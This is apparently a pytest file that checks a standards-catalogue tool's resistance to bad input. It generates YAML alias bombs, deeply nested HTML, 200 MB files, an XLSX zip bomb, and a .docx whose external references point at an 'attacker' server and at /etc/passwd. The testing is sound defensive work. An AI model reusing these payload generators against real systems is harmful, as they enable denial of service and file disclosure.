"""The bad-input corpus (issue 7, point 3): every hostile file gets a clear message, bounded time
and memory, and loses nothing.

Each case runs ``catalogue ingest --json`` (or ``check-refs``) in a child process on a copy of a
small catalogue, so that:
- time is the child's wall clock (bounded generously for CI: TIME_BOUND seconds);
- memory is the child's peak resident size (``ru_maxrss``, reported by the child itself), under
  MEMORY_BOUND_MB; RLIMIT_AS stops a runaway child before it can hurt the machine;
- "nothing lost" means every record exported before is exported unchanged after.

Small hostile files live in ``tests/data/bad/`` (written by us); big ones (200 MB, a zip bomb,
100,000 nested tags, a .docx pointing outside) are generated in ``tmp_path`` at test time and
never committed. Cases already covered message-by-message in test_pipeline.py (empty, junk,
truncated YAML, code tags, the entity bomb, XXE) are run here for their bounds only.
"""
from __future__ import annotations

import io
import json
import os
import resource
import shutil
import socket
import subprocess
import sys
import threading
import time
import zipfile
from dataclasses import dataclass
from pathlib import Path

import pytest
from werkzeug.test import EnvironBuilder

from conftest import FIXTURES, ROOT

#: Every case starts a child process (about 1.5 s each, 30 s in all; the 200 MB ones more).
pytestmark = pytest.mark.slow

BAD = FIXTURES / "bad"
SMALL = FIXTURES / "catalogue" / "small.jsonl"
#: Wall-clock seconds a child may take on one hostile file (generous for a loaded CI machine).
TIME_BOUND = 20.0
#: Peak resident memory of a child; a plain ingest of a small file peaks near 130 MB here.
MEMORY_BOUND_MB = 400
#: Address space a child may map at all: a blow-up fails fast instead of swapping the machine.
ADDRESS_SPACE_LIMIT = 3 * 1024 ** 3

#: Runs the command line in-process and, whatever happens, prints its peak memory last.
CHILD = """
import resource, sys
from catalogue.cli import main
try:
    main(sys.argv[1:])
finally:
    sys.stderr.write("\\nMAXRSS_KB=%d\\n" % resource.getrusage(resource.RUSAGE_SELF).ru_maxrss)
"""


@dataclass
class Run:
    code: int
    stdout: str
    stderr: str
    seconds: float
    max_rss_mb: float

    @property
    def report(self) -> dict:
        return json.loads(self.stdout)


def limit_address_space() -> None:
    resource.setrlimit(resource.RLIMIT_AS, (ADDRESS_SPACE_LIMIT, ADDRESS_SPACE_LIMIT))


def run_cli(home: Path, *args: str, timeout: float = 120) -> Run:
    """Run ``catalogue --home HOME ARGS`` in a child with bounded memory; time and measure it."""
    env = {**os.environ, "PYTHONWARNINGS": "ignore"}
    started = time.monotonic()
    proc = subprocess.run([sys.executable, "-c", CHILD, "--home", str(home), *args], capture_output=True,
                          text=True, cwd=ROOT, env=env, timeout=timeout, preexec_fn=limit_address_space)
    seconds = time.monotonic() - started
    marker = proc.stderr.rsplit("MAXRSS_KB=", 1)
    assert len(marker) == 2, f"the child died without reporting its memory: {proc.stderr[-2000:]}"
    return Run(proc.returncode, proc.stdout, marker[0], seconds, int(marker[1]) / 1024)


def assert_bounded(run: Run, what: str) -> None:
    """Time and memory bounds, and no traceback shown to the user."""
    assert run.seconds < TIME_BOUND, f"{what} took {run.seconds:.1f} s"
    assert run.max_rss_mb < MEMORY_BOUND_MB, f"{what} peaked at {run.max_rss_mb:.0f} MB"
    assert "Traceback" not in run.stderr, run.stderr[-3000:]


def export_lines(home: Path) -> set[str]:
    """Every record of the catalogue as its export line (provenance timestamps included)."""
    out = subprocess.run([sys.executable, "-m", "catalogue.cli", "--home", str(home), "export"],
                         capture_output=True, text=True, cwd=ROOT, check=True).stdout
    return {line for line in out.splitlines() if line.strip()}


@pytest.fixture(scope="module")
def base_home(tmp_path_factory) -> Path:
    home = tmp_path_factory.mktemp("bad-base") / "home"
    run = run_cli(home, "ingest", "--json", str(SMALL))
    assert run.code == 0 and run.report["added"] == 8, run.stderr
    return home


@pytest.fixture(scope="module")
def base_export(base_home) -> set[str]:
    lines = export_lines(base_home)
    assert len(lines) == 8
    return lines


@pytest.fixture()
def home(base_home, tmp_path) -> Path:
    """A private copy of the small catalogue (8 records) for a test to throw a file at."""
    copy = tmp_path / "home"
    shutil.copytree(base_home, copy)
    return copy


def assert_nothing_lost(home: Path, before: set[str]) -> set[str]:
    """Every record that was there is still there, unchanged; answers the new lines."""
    after = export_lines(home)
    assert before - after == set(), "records were lost or changed"
    return after - before


def ingest(home: Path, path: Path, *extra: str) -> Run:
    run = run_cli(home, "ingest", "--json", *extra, str(path))
    assert_bounded(run, path.name)
    return run


class Listener:
    """A loopback TCP port that counts the connections made to it (an 'attacker' server)."""

    def __init__(self):
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(8)
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.connections = 0
        self.stopped = threading.Event()
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self) -> None:
        while not self.stopped.is_set():
            try:
                conn, _ = self.sock.accept()
            except (socket.timeout, OSError):
                continue
            self.connections += 1
            conn.close()

    def close(self) -> None:
        self.stopped.set()
        self.thread.join()
        self.sock.close()


@pytest.fixture()
def listener():
    server = Listener()
    yield server
    server.close()


# ------------------------------------------------------------------ small corpus files


def test_every_corpus_file_has_a_test():
    tested = {"bomb.xml", "code-tag.yaml", "empty.yaml", "gb18030-labelled.csv", "junk.html", "junk.xlsx",
              "notes.dat", "truncated.yaml", "xxe.xml", "xxe-network.xml", "invalid-utf8.jsonl",
              "invalid-bytes.csv", "gb18030-meta-utf8.html", "unbalanced-quote.csv"}
    assert {p.name for p in BAD.iterdir()} == tested


@pytest.mark.parametrize("name", ["bomb.xml", "code-tag.yaml", "empty.yaml", "junk.html", "junk.xlsx",
                                  "notes.dat", "truncated.yaml"])
def test_known_bad_files_are_one_problem_in_bounded_time_and_memory(home, base_export, name):
    # Their exact sentences are checked in test_pipeline.py; here: one problem naming the file,
    # bounded, and the catalogue as it was.
    run = ingest(home, BAD / name)
    assert run.code in (1, 2)
    assert run.report["rejected"] == 1 and run.report["added"] == 0
    assert [p["file"] for p in run.report["problems"]] == [str(BAD / name)]  # the path as given
    assert assert_nothing_lost(home, base_export) == set()


def test_code_tag_yaml_runs_no_code(home, base_export, tmp_path):
    marker = tmp_path / "pwned"
    hostile = tmp_path / "code-tag.yaml"
    hostile.write_text((BAD / "code-tag.yaml").read_text(encoding="utf-8").replace("/tmp/pwned", str(marker)),
                       encoding="utf-8")
    run = ingest(home, hostile)
    assert run.report["problems"][0]["reason"].startswith("the YAML uses a tag safe loading refuses")
    assert not marker.exists()


def test_external_entities_and_dtds_are_never_fetched_or_read(home, base_export, tmp_path, listener):
    hostile = tmp_path / "xxe-network.xml"
    hostile.write_text((BAD / "xxe-network.xml").read_text(encoding="utf-8").replace("PORT", str(listener.port)),
                       encoding="utf-8")
    run = ingest(home, hostile)
    time.sleep(0.3)  # let a late connection show up before counting
    assert listener.connections == 0
    new = assert_nothing_lost(home, base_export)
    assert "root:" not in run.stdout and not any("root:" in line for line in new)
    # The record itself lands: its title is what is left after refusing both entities.
    assert run.code == 0 and run.report["added"] == 1
    record = json.loads(next(iter(new)))
    assert record["designation"] == "GB/T 12238-2008"


def test_invalid_utf8_line_is_one_problem_and_the_good_lines_land(home, base_export):
    run = ingest(home, BAD / "invalid-utf8.jsonl")
    assert run.code == 1
    assert (run.report["added"], run.report["rejected"]) == (2, 1)
    assert run.report["problems"] == [{"file": str(BAD / "invalid-utf8.jsonl"), "line": 2, "field": None,
                                       "reason": "not UTF-8 text (invalid continuation byte at byte 77)"}]
    added = {json.loads(line)["designation"] for line in assert_nothing_lost(home, base_export)}
    assert added == {"GB/T 13927-2022", "GB/T 12238-2008"}


def test_bytes_that_are_neither_utf8_nor_gb18030_are_refused_by_name(home, base_export):
    run = ingest(home, BAD / "invalid-bytes.csv")
    assert run.code == 1 and run.report["added"] == 0
    [problem] = run.report["problems"]
    assert problem["file"] == str(BAD / "invalid-bytes.csv") and problem["line"] is None
    assert problem["reason"] == ("This file is neither UTF-8 (bad byte at offset 39) nor GB18030 (at offset 8); "
                                 "save it as UTF-8 CSV or name its encoding.")
    assert assert_nothing_lost(home, base_export) == set()


def test_gb18030_page_labelled_utf8_is_decoded_by_its_bytes(home, base_export):
    run = ingest(home, BAD / "gb18030-meta-utf8.html")
    assert (run.code, run.report["added"], run.report["problems"]) == (0, 1, [])
    [line] = assert_nothing_lost(home, base_export)
    record = json.loads(line)
    assert record["designation"] == "GB/T 12238-2008"
    assert record["titles"] == {"zh": "法兰和对夹连接弹性密封蝶阀",
                                "en": "Flanged and wafer resilient seal butterfly valves"}
    assert (record["status"], record["ccs"], record["ics"]) == ("current", "J16", ["23.060.99"])
    assert record["dates"] == {"published": "2008-12-23", "in_force": "2009-07-01", "withdrawn": None}


def test_unbalanced_quote_costs_one_row_named_by_line(home, base_export):
    run = ingest(home, BAD / "unbalanced-quote.csv")
    assert run.code == 1
    assert run.report["rejected"] == 1
    [problem] = run.report["problems"]
    assert (problem["file"], problem["line"]) == (str(BAD / "unbalanced-quote.csv"), 3)
    assert problem["reason"].startswith("Malformed CSV record starting on text line 3")
    assert "a quote inside a quoted cell must be doubled" in problem["reason"]
    added = {json.loads(line)["designation"] for line in assert_nothing_lost(home, base_export)}
    assert added == {"GB/T 13927-2022", "GB/T 14048.2-2020"}


# ------------------------------------------------------------------ generated hostile files


def write_deep_openstd_page(path: Path, depth: int) -> None:
    """An openstd-looking page (title '国家标准|GB/T 12238-2008') with ``depth`` nested <div>."""
    head = ('<!DOCTYPE html>\n<html>\n<head>\n<title>国家标准|GB/T 12238-2008</title>\n'
            '<meta charset="utf-8" />\n</head>\n<body>\n')
    with open(path, "w", encoding="utf-8") as out:
        out.write(head)
        out.write("<div>" * depth)
        out.write("标准号：GB/T 12238-2008")
        out.write("</div>" * depth)
        out.write("\n</body>\n</html>\n")


def alias_bomb(merge: bool) -> str:
    """A small Relaton-looking YAML whose aliases nest nine deep, nine wide: 9**9 values once expanded
    (issue 14 measured one such file growing past 12 GB). With ``merge`` the aliases sit in merge
    keys (``<<``), which the loader flattens while building each mapping.
    """
    lines = ["docid:", "- id: ISO 5208:2015", "  primary: true"]
    if merge:
        lines.append("a: &a {" + ", ".join(f"k{i}: lol" for i in range(9)) + "}")
        for prev, name in zip("abcdefgh", "bcdefghi"):
            lines.append(f"{name}: &{name} {{<<: [" + ", ".join([f"*{prev}"] * 9) + "]}")
    else:
        lines.append('a: &a ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]')
        for prev, name in zip("abcdefgh", "bcdefghi"):
            lines.append(f"{name}: &{name} [" + ", ".join([f"*{prev}"] * 9) + "]")
    lines.append("title: *i")
    return "\n".join(lines) + "\n"


@pytest.mark.parametrize("merge", [True, False], ids=["merge-keys", "sequences"])
def test_yaml_alias_bomb_is_one_problem_in_bounded_time_and_memory(home, base_export, tmp_path, merge):
    bomb = tmp_path / "relaton-bomb.yaml"
    bomb.write_text(alias_bomb(merge), encoding="utf-8")
    assert bomb.stat().st_size < 800
    run = ingest(home, bomb)
    assert run.code == 1 and run.report["added"] == 0 and run.report["rejected"] == 1
    (problem,) = run.report["problems"]
    assert problem["file"] == str(bomb) and problem["line"] == 1
    assert problem["reason"].startswith("the YAML document is too complex to load (")
    assert problem["reason"].endswith("); nothing was built from it.")
    assert assert_nothing_lost(home, base_export) == set()


def test_deeply_nested_html_is_bounded(home, base_export, tmp_path):
    # libxml2's HTML parser stops nesting at its depth limit instead of recursing 100,000 deep,
    # so the page is read in bounded time and found to hold no standard.
    page = tmp_path / "openstd-detail-12238.html"
    write_deep_openstd_page(page, 100_000)
    run = ingest(home, page)
    assert (run.code, run.report["added"]) == (1, 0)
    assert run.report["problems"] == [{"file": str(page), "line": None, "field": None,
                                       "reason": "This page has neither an openstd result list nor a 标准号 detail heading."}]
    assert assert_nothing_lost(home, base_export) == set()


def test_deeply_nested_html_upload_to_the_checker_is_bounded(home, tmp_path):
    from catalogue.web import create_app

    page = tmp_path / "deep.html"
    write_deep_openstd_page(page, 100_000)
    app = create_app({"CATALOGUE_HOME": str(home), "TESTING": True, "CSRF_DISABLED": True})
    # Werkzeug spools a multipart body over 500 kB to a temporary file it never closes: build the
    # request ourselves and close that file.
    builder = EnvironBuilder(path="/check.json", method="POST",
                             data={"document": (io.BytesIO(page.read_bytes()), "deep.html")})
    environ = builder.get_environ()
    started = time.monotonic()
    try:
        response = app.test_client().open(environ)
    finally:
        environ["wsgi.input"].close()
        builder.close()
        cat = app.extensions.get("catalogue")
        if cat is not None:
            cat.close()
    assert time.monotonic() - started < TIME_BOUND
    assert response.status_code == 200
    # Found twice: in the page's title and in its innermost <div>.
    assert [r["text"] for r in response.get_json()["references"]] == ["GB/T 12238-2008", "GB/T 12238-2008"]


def test_200_mb_jsonl_line_is_refused_by_line_within_bounded_memory(home, base_export, tmp_path):
    # One good record, then a single 200 MB line (a title that never ends), then another good one.
    huge = tmp_path / "huge.jsonl"
    with open(huge, "wb") as out:
        out.write(b'{"designation": "GB/T 13927-2022", "status": "current", "titles": {"en": "Industrial valves - Pressure testing"}}\n')
        out.write(b'{"designation": "ISO 5208:2015", "titles": {"en": "')
        chunk = b"valve " * (1024 * 1024 // 6)
        for _ in range(200):
            out.write(chunk)
        out.write(b'"}}\n')
        out.write(b'{"designation": "GB/T 12238-2008", "status": "current", "titles": {"zh": "\xe6\xb3\x95\xe5\x85\xb0"}}\n')
    assert huge.stat().st_size > 200 * 1000 * 1000
    run = ingest(home, huge)
    assert run.code == 1
    [problem] = run.report["problems"]
    assert (problem["file"], problem["line"]) == (str(huge), 2)
    assert problem["reason"].startswith("the line is longer than")
    added = {json.loads(line)["designation"] for line in assert_nothing_lost(home, base_export)}
    assert added == {"GB/T 13927-2022", "GB/T 12238-2008"}


#: Whole-file readers are refused by the pipeline's cap; YAML and CSV readers carry their own.
SIZE_REASONS = {
    ".xml": "the file is 200 MB; the relaton-xml reader reads at most 64 MB from one file: split it into smaller files.",
    ".html": "the file is 200 MB; the openstd-html reader reads at most 64 MB from one file: split it into smaller files.",
    ".yaml": "the file is 5,242,881 bytes, over the 5,242,880-byte limit for one record file.",
    ".csv": "This CSV file is larger than 100 MB; split it into smaller files.",
}


@pytest.mark.parametrize("name", ["huge.yaml", "huge.xml", "huge.html", "huge.csv"])
def test_200_mb_file_of_a_slurping_format_is_refused_by_size(home, base_export, tmp_path, name):
    huge = tmp_path / name
    heads = {
        ".yaml": b"---\nschema-version: v1.2.9\nid: ISO5208-2015\ndocid:\n- id: ISO 5208:2015\ntitle:\n- content: ",
        ".xml": b'<?xml version="1.0"?>\n<bibdata type="standard"><docidentifier type="ISO">ISO 5208:2015</docidentifier><title>',
        ".html": "<!DOCTYPE html><html><head><title>国家标准|GB/T 12238-2008</title></head><body><p>".encode(),
        ".csv": "标准号,中文名称\nGB/T 12238-2008,".encode(),
    }
    with open(huge, "wb") as out:
        out.write(heads[huge.suffix])
        chunk = b"valves " * (1024 * 1024 // 7)
        for _ in range(200):
            out.write(chunk)
    run = ingest(home, huge)
    assert run.code == 1 and run.report["added"] == 0
    [problem] = run.report["problems"]
    assert problem["file"] == str(huge) and problem["line"] is None
    assert problem["reason"] == SIZE_REASONS[huge.suffix]
    assert assert_nothing_lost(home, base_export) == set()


def write_xlsx_bomb(path: Path, unpacked_mb: int) -> None:
    """A workbook whose one worksheet unpacks from about 1 MB to ``unpacked_mb`` MB of spaces."""
    sheet_head = ('<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/'
                  'spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>标准号</t></is></c>'
                  '</row>').encode()
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=1) as zf:
        zf.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/'
                    'package/2006/content-types"/>')
        zf.writestr("xl/workbook.xml", '<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/'
                    'spreadsheetml/2006/main"><sheets><sheet name="标准" sheetId="1"/></sheets></workbook>')
        with zf.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as member:
            member.write(sheet_head)
            block = b" " * (1024 * 1024)
            for _ in range(unpacked_mb):
                member.write(block)
            member.write(b"</sheetData></worksheet>")


def test_xlsx_zip_bomb_is_refused_before_unpacking(home, base_export, tmp_path):
    bomb = tmp_path / "馆藏.xlsx"
    write_xlsx_bomb(bomb, 1024)
    assert bomb.stat().st_size < 8 * 1024 * 1024
    run = ingest(home, bomb)
    assert run.code == 1 and run.report["added"] == 0
    [problem] = run.report["problems"]
    assert (problem["file"], problem["line"]) == (str(bomb), None)
    assert problem["reason"] == ("This XLSX file would unpack to 1024 MB (more than 100 MB); it was not opened.")
    assert assert_nothing_lost(home, base_export) == set()


def test_compressible_xlsx_under_the_total_cap_is_refused_by_ratio(home, base_export, tmp_path):
    bomb = tmp_path / "ratio.xlsx"
    write_xlsx_bomb(bomb, 60)
    run = ingest(home, bomb)
    [problem] = run.report["problems"]
    assert problem["reason"].startswith("The member xl/worksheets/sheet1.xml of this XLSX file is compressed more than 200 times")
    assert problem["reason"].endswith("like a zip bomb; it was not opened.")
    assert assert_nothing_lost(home, base_export) == set()


# ------------------------------------------------------------------ a .docx pointing outside

DOCX_CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/word/document.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
    '</Types>')
DOCX_PACKAGE_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
    'Target="word/document.xml"/></Relationships>')
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def write_hostile_docx(path: Path, port: int) -> None:
    """A scheme document citing two standards, whose relationships point at an 'attacker' server
    and at /etc/passwd: an attached template, a linked image, a hyperlink, an included file
    (INCLUDETEXT field), a subdocument and an external DTD in the document part itself."""
    attacker = f"http://127.0.0.1:{port}"
    rels = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId7" Type="{R}/attachedTemplate" Target="{attacker}/template.dotm" TargetMode="External"/>'
        f'<Relationship Id="rId8" Type="{R}/image" Target="{attacker}/logo.png" TargetMode="External"/>'
        f'<Relationship Id="rId9" Type="{R}/hyperlink" Target="file:///etc/passwd" TargetMode="External"/>'
        f'<Relationship Id="rId10" Type="{R}/subDocument" Target="file:///etc/passwd" TargetMode="External"/>'
        f'<Relationship Id="rId11" Type="{R}/oleObject" Target="{attacker}/object.bin" TargetMode="External"/>'
        '</Relationships>')
    document = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        f'<!DOCTYPE w:document SYSTEM "{attacker}/document.dtd">'
        f'<w:document xmlns:w="{W}" xmlns:r="{R}"><w:body>'
        '<w:p><w:r><w:t>塑料外壳式断路器对标方案</w:t></w:r></w:p>'
        '<w:p><w:r><w:t>国内标准 GB/T 14048.2-2020，国际标准 IEC 60947-2:2016。</w:t></w:r></w:p>'
        '<w:p><w:hyperlink r:id="rId9"><w:r><w:t>see the file</w:t></w:r></w:hyperlink></w:p>'
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        '<w:r><w:instrText xml:space="preserve"> INCLUDETEXT "file:///etc/passwd" </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
        '<w:subDoc r:id="rId10"/>'
        '</w:body></w:document>')
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("[Content_Types].xml", DOCX_CONTENT_TYPES)
        zf.writestr("_rels/.rels", DOCX_PACKAGE_RELS)
        zf.writestr("word/document.xml", document)
        zf.writestr("word/_rels/document.xml.rels", rels)


def test_docx_with_external_references_is_read_without_fetching_anything(home, tmp_path, listener):
    doc = tmp_path / "对标方案-mccb.docx"
    write_hostile_docx(doc, listener.port)
    passwd_head = Path("/etc/passwd").read_text(encoding="utf-8", errors="replace").split(":", 1)[0]

    checked = run_cli(home, "check-refs", "--json", str(doc))
    assert_bounded(checked, doc.name)
    references = json.loads(checked.stdout)["references"]
    assert [r["text"] for r in references] == ["GB/T 14048.2-2020", "IEC 60947-2:2016"]
    assert "/etc/passwd" not in checked.stdout and f"{passwd_head}:x:" not in checked.stdout

    ingested = ingest(home, doc, "--format", "scheme-doc")
    assert (ingested.code, ingested.report["rejected"]) == (0, 0)
    shown = subprocess.run([sys.executable, "-m", "catalogue.cli", "--home", str(home), "export"],
                           capture_output=True, text=True, cwd=ROOT, check=True).stdout
    assert f"{passwd_head}:x:" not in shown
    time.sleep(0.3)
    assert listener.connections == 0


def test_docx_with_external_references_through_the_web_checker(home, tmp_path, listener):
    from catalogue.web import create_app

    doc = tmp_path / "scheme.docx"
    write_hostile_docx(doc, listener.port)
    app = create_app({"CATALOGUE_HOME": str(home), "TESTING": True, "CSRF_DISABLED": True})
    try:
        response = app.test_client().post("/check.json", data={"document": (io.BytesIO(doc.read_bytes()), "scheme.docx")},
                                          content_type="multipart/form-data")
        assert response.status_code == 200
        assert [r["text"] for r in response.get_json()["references"]] == ["GB/T 14048.2-2020", "IEC 60947-2:2016"]
    finally:
        cat = app.extensions.get("catalogue")
        if cat is not None:
            cat.close()
    time.sleep(0.3)
    assert listener.connections == 0
